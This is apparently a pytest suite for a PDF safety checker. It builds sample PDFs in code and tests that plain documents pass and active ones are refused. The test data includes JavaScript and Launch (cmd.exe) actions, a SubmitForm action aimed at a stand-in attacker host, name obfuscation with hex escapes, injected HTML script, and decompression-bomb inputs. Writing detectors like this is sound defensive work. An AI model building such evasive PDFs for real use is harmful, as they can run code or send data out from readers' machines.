"""PDFs: what is only there to be read is taken, what runs, sends or hides is not. All made in code."""

import time
import zlib

import pytest
import typst

from pledge.files.documents import MAX_UNPACKED, DocumentFault, check_document
from tests.support.pictures import PDF
from tests.support.refusals import fault_of


def pdf(*objects: bytes) -> bytes:
    body = b"".join(
        b"%d 0 obj\n%s\nendobj\n" % (number, content) for number, content in enumerate(objects, 1)
    )
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"


def stream(content: bytes, dictionary: bytes = b"/Filter /FlateDecode", pack=zlib.compress) -> bytes:
    packed = pack(content)
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (dictionary, len(packed), packed)


def object_stream(content: bytes, dictionary: bytes = b"/Filter /FlateDecode", pack=zlib.compress) -> bytes:
    return stream(content, b"/Type /ObjStm /N 1 /First 4 " + dictionary, pack)


CATALOG = b"<</Type /Catalog /Pages 2 0 R>>"
SCRIPT = b"<</S /JavaScript /JS (app.alert\\(1\\))>>"
LAUNCH = b"<</S /Launch /F (cmd.exe)>>"


def page(text: bytes) -> bytes:
    return stream(b"BT /F1 12 Tf (%s) Tj ET" % text)


@pytest.mark.parametrize(
    "data",
    [
        PDF,
        pdf(CATALOG),
        pdf(CATALOG, page(b"The JavaScript of this sentence is a word; so is Launch.")),
        pdf(b"<</Type /Catalog /OpenAction [2 0 R /XYZ null null 0]>>", page(b"opens at the top")),
        pdf(CATALOG, b"<</S /URI /URI (https://example.org)>>"),
        pdf(CATALOG, object_stream(b"3 0 <</Type /Page>>")),
        pdf(CATALOG, object_stream(b"3 0 <</Type /Page>>", b"/Filter [/FlateDecode]")),
        pdf(
            CATALOG,
            stream(b"\0" * 200_000, b"/Type /XRef /DecodeParms <</Predictor 12>> /Filter /FlateDecode"),
        ),
        pdf(CATALOG, stream(b"\xff\xd8\xff\xe0 a picture", b"/Filter /DCTDecode", pack=bytes)),
        pdf(CATALOG, b"<</Type /JavaScripts /Launcher 1>>"),
    ],
)
def test_a_document_to_read_is_taken(data):
    check_document(data)


@pytest.mark.parametrize("standard", ["1.7", "a-2b"])
def test_a_letter_as_programs_write_it_is_taken(standard):
    text = "= 편지\n" + "안녕하십니까. JavaScript, Launch.\n\n" * 200 + '#link("https://example.org")[here]'
    check_document(typst.compile(text.encode(), format="pdf", pdf_standards=[standard]))


@pytest.mark.parametrize(
    ("data", "fault"),
    [
        (pdf(b"<</Type /Catalog /OpenAction 2 0 R>>", SCRIPT), DocumentFault.ACTIVE),
        (pdf(b"<</Type /Catalog /OpenAction <</S/Launch/F(x)>> >>"), DocumentFault.ACTIVE),
        (pdf(CATALOG, LAUNCH), DocumentFault.ACTIVE),
        (pdf(CATALOG, SCRIPT.replace(b"/JavaScript", b"/J#61va#53cript")), DocumentFault.ACTIVE),
        (pdf(CATALOG, object_stream(b"3 0 " + SCRIPT)), DocumentFault.ACTIVE),
        (pdf(CATALOG, object_stream(b"3 0 " + SCRIPT.replace(b"/Jav", b"/#4a#61v"))), DocumentFault.ACTIVE),
        (pdf(CATALOG, object_stream(b" " * 65_530 + SCRIPT)), DocumentFault.ACTIVE),
        (pdf(CATALOG, b"<</S /SubmitForm /F (https://evil.example)>>"), DocumentFault.ACTIVE),
        (pdf(CATALOG, b"<</Names <</EmbeddedFiles 3 0 R>> >>"), DocumentFault.ACTIVE),
        (pdf(CATALOG, b"<</AcroForm <</XFA 3 0 R>> >>"), DocumentFault.ACTIVE),
        (pdf(CATALOG, b"<</Subtype /RichMedia>>"), DocumentFault.ACTIVE),
        (PDF.replace(b"\n", b"\n<html><script>alert(1)</script>\n", 1), DocumentFault.EXTRA),
        (PDF.replace(b"\n", b"\n<!DOCTYPE html>\n", 1), DocumentFault.EXTRA),
        (PDF.replace(b"/Root", b"/Encrypt 5 0 R /Root"), DocumentFault.UNCHECKABLE),
        (pdf(CATALOG, object_stream(SCRIPT, b"/Filter /LZWDecode", pack=lambda raw: raw.hex().encode())), DocumentFault.UNCHECKABLE),
        (pdf(CATALOG, object_stream(SCRIPT, b"/Filter [/FlateDecode /FlateDecode]", pack=lambda raw: zlib.compress(zlib.compress(raw)))), DocumentFault.UNCHECKABLE),
        (pdf(CATALOG, object_stream(SCRIPT, b"/Filter [/ASCIIHexDecode /FlateDecode]", pack=lambda raw: zlib.compress(raw).hex().encode())), DocumentFault.UNCHECKABLE),
        (pdf(CATALOG, object_stream(b"3 0 <<>>", b"/DecodeParms <</Predictor 12>> /Filter /FlateDecode")), DocumentFault.UNCHECKABLE),
        (pdf(CATALOG, object_stream(b"3 0 <<>>", b"/Filter /FlateDecode", pack=bytes)), DocumentFault.UNCHECKABLE),
        (pdf(CATALOG, object_stream(b"3 0 <<>>").replace(b"/ObjStm", b"/Obj#53tm").replace(b"/FlateDecode", b"/LZWDecode")), DocumentFault.UNCHECKABLE),
    ],
)  # fmt: skip
def test_a_document_that_runs_sends_or_hides_is_refused(data, fault):
    assert fault_of(check_document, data) is fault


def test_a_document_that_unpacks_to_more_than_any_letter_is_refused_soon():
    data = pdf(CATALOG, stream(b" " * (MAX_UNPACKED + 1)))
    began = time.process_time()
    assert fault_of(check_document, data) is DocumentFault.UNCHECKABLE
    assert time.process_time() - began < 5


def test_many_streams_in_one_document_are_looked_through_in_time():
    many = pdf(CATALOG, *[page(b"x")] * 20_000)
    hollow = pdf(CATALOG, b"stream\n" * 500_000)
    began = time.process_time()
    check_document(many)
    check_document(hollow)
    assert time.process_time() - began < 10
